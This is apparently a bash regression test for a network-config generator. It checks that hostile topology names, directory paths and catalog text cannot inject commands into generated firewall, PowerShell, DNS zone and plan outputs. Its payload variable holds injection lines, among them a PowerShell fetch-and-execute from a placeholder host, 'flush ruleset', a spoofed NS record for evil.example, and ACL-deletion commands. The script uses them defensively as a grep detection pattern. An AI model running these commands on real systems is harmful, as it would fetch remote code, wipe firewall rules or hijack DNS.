#!/usr/bin/env bash
# No byte of a hostile topology name, file path or catalog text can end the
# comment or string it sits in, in any output language (issue 16).
#
# The same deployment (examples/onprem-edge.yaml) is written twice: once
# from a benign path with a benign name, once from a path whose directory
# name carries a line break and commands for every consumer (nft, iptables-
# restore, PowerShell, a zone file, ASA, Junos, pf) and with a name full of
# quotes, comment markers and PowerShell's curly quotes.  Then, per target:
#   - the hostile output has exactly the lines of the benign one, and every
#     line that differs is a comment line of that language;
#   - no line of it is an injected command;
#   - where the real consumer is here, it takes the hostile output: nft -f
#     in a network namespace of this test leaves an unrelated table
#     untouched and creates no other, iptables-restore / ip6tables-restore
#     --test accept it, kzonecheck accepts the zone, jq reads the JSON back
#     with the name intact.
# Then a catalog whose citation text carries the same payload (--catalog)
# goes through every firewall target the same way, and names with control
# characters, line separators or bidirectional controls are refused at load
# with FILE:LINE:COLUMN and exit status 2.
set -u
bin=$(realpath "$1")
cd "$(dirname "$0")/../.." || exit 3
ex=examples/onprem-edge.yaml
tmp=$(mktemp -d "${TMPDIR:-/tmp}/sfb-inj.XXXXXX") || exit 3
ns=""
cleanup() { [ -n "$ns" ] && ip netns del "$ns" 2>/dev/null; rm -rf "$tmp"; }
trap cleanup EXIT
pass=0 fail=0 skip=0
ok() { pass=$((pass + 1)); }
bad() { fail=$((fail + 1)); printf 'FAIL: %s\n' "$*"; }

# The payload: a line break, then a command in each language, then a
# comment marker of each language so the rest of the line looks harmless.
payload=$'x\nflush ruleset\nadd table inet pwned { }\n*filter\n-A INPUT -j DROP\nCOMMIT\nInvoke-WebRequest http://198.51.100.1/p | Invoke-Expression\n@ IN NS evil.example.\nno access-list SFB-IN-outside\ndelete security policies\npass quick all\n#'
hostile_dir="$tmp/h${payload}"
mkdir -p "$hostile_dir" "$tmp/benign" || exit 3
hostile_name='Contoso "HQ" '"'"'it'"'"' ‘a’ “b” ; # ! $(id) `id` \ | < > & =1+2 @x'
# The name as YAML: double-quoted, " and \ escaped.
yname=${hostile_name//\\/\\\\}
yname=${yname//\"/\\\"}
# set_name FILE_OUT YAML_SCALAR: the example with its name replaced (the
# scalar goes through the environment: awk -v would read its backslashes).
set_name() {
	NAME=$2 awk '/^name:/ { print "name: " ENVIRON["NAME"]; next } { print }' "$ex" >"$1"
}
set_name "$hostile_dir/topo.yaml" "\"$yname\""
set_name "$tmp/benign/topo.yaml" '"Contoso"'
H="$hostile_dir/topo.yaml" B="$tmp/benign/topo.yaml"

"$bin" validate "$H" >/dev/null 2>&1 && ok || bad "the hostile (but legal) name does not validate"

# same_shape FILE_B FILE_H COMMENT_REGEX WHAT
same_shape() {
	local nb nh
	nb=$(wc -l <"$1") nh=$(wc -l <"$2")
	if [ "$nb" != "$nh" ]; then
		bad "$4: $nh lines from the hostile input, $nb from the benign one"; return
	fi
	if paste -d '\n' "$1" "$2" | awk -v re="$3" '
		NR % 2 == 1 { b = $0; next }
		$0 != b && $0 !~ re { print "  differs outside a comment: " $0; bad = 1 }
		END { exit bad }'; then ok; else bad "$4: a changed line is not a comment"; fi
	if grep -Eq '^(flush ruleset|add table inet pwned|-A INPUT -j DROP|Invoke-WebRequest|@ IN NS|no access-list|delete security|pass quick all)' "$2"; then
		bad "$4: an injected line stands on its own"
	else ok; fi
}

# Firewall targets, for every firewall of the example.
declare -A marker=([nftables]='^[[:space:]]*#' [iptables]='^#' [ip6tables]='^#' [asa]='^!' \
	[srx]='^#' [pf]='^#' [csv]='^$' [md]='^$')
fws=$("$bin" plan "$B" --format json | jq -r '.firewalls[].name')
[ -n "$fws" ] || bad "the example has no firewalls"
for fw in $fws; do
	for t in nftables iptables ip6tables asa srx pf csv md; do
		"$bin" firewall "$B" -t "$t" -F "$fw" -o "$tmp/b.$fw.$t" &&
		"$bin" firewall "$H" -t "$t" -F "$fw" -o "$tmp/h.$fw.$t" ||
			{ bad "firewall $t $fw failed"; continue; }
		same_shape "$tmp/b.$fw.$t" "$tmp/h.$fw.$t" "${marker[$t]}" "$t $fw"
	done
done
# The Windows target: every Windows host.
for host in fe1 edge1; do
	"$bin" firewall "$B" -t windows -H "$host" -o "$tmp/b.$host.ps1" &&
	"$bin" firewall "$H" -t windows -H "$host" -o "$tmp/h.$host.ps1" ||
		{ bad "windows $host failed"; continue; }
	same_shape "$tmp/b.$host.ps1" "$tmp/h.$host.ps1" '^#' "windows $host"
	# No PowerShell on Debian: the script's single-quoted strings are
	# checked instead, every one closed on the line it opens (doubled
	# quotes, ASCII or curly, inside).
	if sed -e '/^#/d' "$tmp/h.$host.ps1" | awk '{
		n = 0; s = $0
		gsub(/\x27\x27|\xe2\x80[\x98-\x9b]\xe2\x80[\x98-\x9b]/, "", s)
		n = gsub(/\x27|\xe2\x80[\x98-\x9b]/, "", s)
		if (n % 2) { print "  unbalanced quotes: " $0; bad = 1 } } END { exit bad }'
	then ok; else bad "windows $host: a string is left open"; fi
done
# DNS: zone file and JSON; certificates: text and JSON; plan: every format.
"$bin" dns "$B" -o "$tmp/b.zone" && "$bin" dns "$H" -o "$tmp/h.zone" &&
	same_shape "$tmp/b.zone" "$tmp/h.zone" '^;' "dns zone" || bad "dns failed"
"$bin" certs "$B" -o "$tmp/b.certs" && "$bin" certs "$H" -o "$tmp/h.certs" &&
	same_shape "$tmp/b.certs" "$tmp/h.certs" '^[0-9]+ certificate' "certs text" || bad "certs failed"
"$bin" plan "$B" -o "$tmp/b.plan" && "$bin" plan "$H" -o "$tmp/h.plan" &&
	same_shape "$tmp/b.plan" "$tmp/h.plan" '^plan for ' "plan text" || bad "plan failed"
for cmd in "plan --format json" "dns --format json" "certs --format json"; do
	# shellcheck disable=SC2086
	got=$("$bin" $cmd "$H" | jq -r '.topology') || { bad "$cmd: not JSON"; continue; }
	[ "$got" = "$hostile_name" ] && ok || bad "$cmd: the name did not come back intact: $got"
done

# The real consumers.
if [ "$(id -u)" = 0 ] && command -v nft >/dev/null && command -v iptables-restore >/dev/null &&
    ns=sfbinj$$ && ip netns add "$ns" 2>/dev/null; then
	for fw in $fws; do
		ip netns exec "$ns" nft flush ruleset
		ip netns exec "$ns" nft add table inet keepme
		ip netns exec "$ns" nft add chain inet keepme c
		if ip netns exec "$ns" nft -f "$tmp/h.$fw.nftables"; then ok; else bad "nft -f rejects $fw"; fi
		tables=$(ip netns exec "$ns" nft list tables | sort | tr '\n' ' ')
		[ "$tables" = "table inet keepme table inet sfbnet " ] && ok ||
			bad "nft $fw: tables after loading: $tables"
		ip netns exec "$ns" iptables-restore --test --noflush "$tmp/h.$fw.iptables" && ok ||
			bad "iptables-restore --test rejects $fw"
		ip netns exec "$ns" ip6tables-restore --test --noflush "$tmp/h.$fw.ip6tables" && ok ||
			bad "ip6tables-restore --test rejects $fw"
	done
else
	echo "SKIP (part): nft/iptables-restore checks need root and a network namespace"
	skip=$((skip + 1)); ns=""
fi
if command -v kzonecheck >/dev/null; then
	for z in $("$bin" dns "$H" --format json | jq -r '[.records[].zone] | unique[]'); do
		for v in internal external; do
			"$bin" dns "$H" --view "$v" --zone "$z" --standalone -o "$tmp/z" 2>/dev/null || continue
			[ -s "$tmp/z" ] || continue
			kzonecheck -o "$z" "$tmp/z" >/dev/null 2>&1 && ok || bad "kzonecheck rejects $v $z"
			# The records are the benign ones: no NS came in through the name.
			"$bin" dns "$B" --view "$v" --zone "$z" --standalone -o "$tmp/zb"
			[ "$(grep -vc '^;' "$tmp/z")" = "$(grep -vc '^;' "$tmp/zb")" ] && ok ||
				bad "dns $v $z: record count differs from the benign topology"
		done
	done
else
	echo "SKIP (part): kzonecheck (knot-dnssecutils) is not installed"; skip=$((skip + 1))
fi

# Catalog text: the citation of every flow carries the payload.
cp -r data/catalog "$tmp/cat"
esc=$(printf '%s' "$payload" | sed -e 's/\\/\\\\/g' -e 's/"/\\"/g' | awk '{ printf "%s\\n", $0 }')
for f in "$tmp"/cat/*.yaml; do
	[ "$(basename "$f")" = vocabulary.yaml ] && continue
	P=$esc awk '{ i = index($0, "section: \""); if (i) $0 = substr($0, 1, i + 9) ENVIRON["P"] substr($0, i + 10); print }' "$f" >"$f.new" &&
		mv "$f.new" "$f"
done
"$bin" catalog --catalog "$tmp/cat" >/dev/null 2>&1 && ok || bad "the poisoned catalog does not load"
for fw in $fws; do
	for t in nftables iptables ip6tables asa srx pf csv md; do
		"$bin" firewall "$B" --catalog "$tmp/cat" -t "$t" -F "$fw" -o "$tmp/c.$fw.$t" ||
			{ bad "catalog: firewall $t $fw failed"; continue; }
		nb=$(wc -l <"$tmp/b.$fw.$t") nc=$(wc -l <"$tmp/c.$fw.$t")
		[ "$nb" = "$nc" ] && ok || bad "catalog text: $t $fw has $nc lines, not $nb"
	done
	if [ -n "$ns" ]; then
		ip netns exec "$ns" nft flush ruleset
		ip netns exec "$ns" nft add table inet keepme
		ip netns exec "$ns" nft -f "$tmp/c.$fw.nftables" && ok || bad "catalog: nft -f rejects $fw"
		tables=$(ip netns exec "$ns" nft list tables | sort | tr '\n' ' ')
		[ "$tables" = "table inet keepme table inet sfbnet " ] && ok ||
			bad "catalog: nft $fw: tables after loading: $tables"
		ip netns exec "$ns" iptables-restore --test --noflush "$tmp/c.$fw.iptables" && ok ||
			bad "catalog: iptables-restore --test rejects $fw"
	fi
done
for host in fe1 edge1; do
	"$bin" firewall "$B" --catalog "$tmp/cat" -t windows -H "$host" -o "$tmp/c.$host.ps1" &&
		[ "$(wc -l <"$tmp/c.$host.ps1")" = "$(wc -l <"$tmp/b.$host.ps1")" ] && ok ||
		bad "catalog text: windows $host changed shape"
done

# Catalog text in the text outputs: zone-file comments, plan, certificates,
# the catalog itself.  The purposes carry the payload too.
for f in "$tmp"/cat/*.yaml; do
	[ "$(basename "$f")" = vocabulary.yaml ] && continue
	P=$esc awk '{ i = index($0, "purpose: \""); if (i) $0 = substr($0, 1, i + 9) ENVIRON["P"] substr($0, i + 10); print }' "$f" >"$f.new" &&
		mv "$f.new" "$f"
done
for cmd in "dns" "plan" "certs" "catalog"; do
	if [ "$cmd" = catalog ]; then
		"$bin" catalog >"$tmp/cb.$cmd" && "$bin" catalog --catalog "$tmp/cat" >"$tmp/cc.$cmd" ||
			{ bad "catalog text: $cmd failed"; continue; }
	else
		"$bin" $cmd "$B" >"$tmp/cb.$cmd" && "$bin" $cmd "$B" --catalog "$tmp/cat" >"$tmp/cc.$cmd" ||
			{ bad "catalog text: $cmd failed"; continue; }
	fi
	[ "$(wc -l <"$tmp/cb.$cmd")" = "$(wc -l <"$tmp/cc.$cmd")" ] && ok ||
		bad "catalog text: $cmd has $(wc -l <"$tmp/cc.$cmd") lines, not $(wc -l <"$tmp/cb.$cmd")"
done
if command -v kzonecheck >/dev/null; then
	for z in $("$bin" dns "$B" --format json | jq -r '[.records[].zone] | unique[]'); do
		"$bin" dns "$B" --catalog "$tmp/cat" --view external --zone "$z" --standalone -o "$tmp/cz" 2>/dev/null || continue
		[ -s "$tmp/cz" ] || continue
		kzonecheck -o "$z" "$tmp/cz" >/dev/null 2>&1 && ok || bad "catalog text: kzonecheck rejects $z"
	done
fi

# Names that cannot be written safely anywhere are refused at load.
i=0
for bad_name in '"a\nb"' '"a\rb"' '"a\tb"' '"a\u2028b"' '"a\u2029b"' '"a\u202eb"' '"a\x1bb"' \
    '"a\x7fb"' '"a\u0085b"' '"a\ufeffb"'; do
	i=$((i + 1))
	set_name "$tmp/n$i.yaml" "$bad_name"
	line=$(grep -n '^name:' "$tmp/n$i.yaml" | cut -d: -f1)
	out=$("$bin" firewall "$tmp/n$i.yaml" -t nftables -F fw-external -o "$tmp/n$i.out" 2>&1)
	rc=$?
	if [ "$rc" = 2 ] && [[ $out == "$tmp/n$i.yaml:$line:"[0-9]*": name: "*"is not allowed in a name"* ]] &&
	    [ ! -e "$tmp/n$i.out" ]; then ok; else bad "name $bad_name: exit $rc, '$out'"; fi
done

echo "injection: $pass passed, $fail failed, $skip skipped"
[ "$fail" -eq 0 ] && [ "$pass" -gt 0 ]
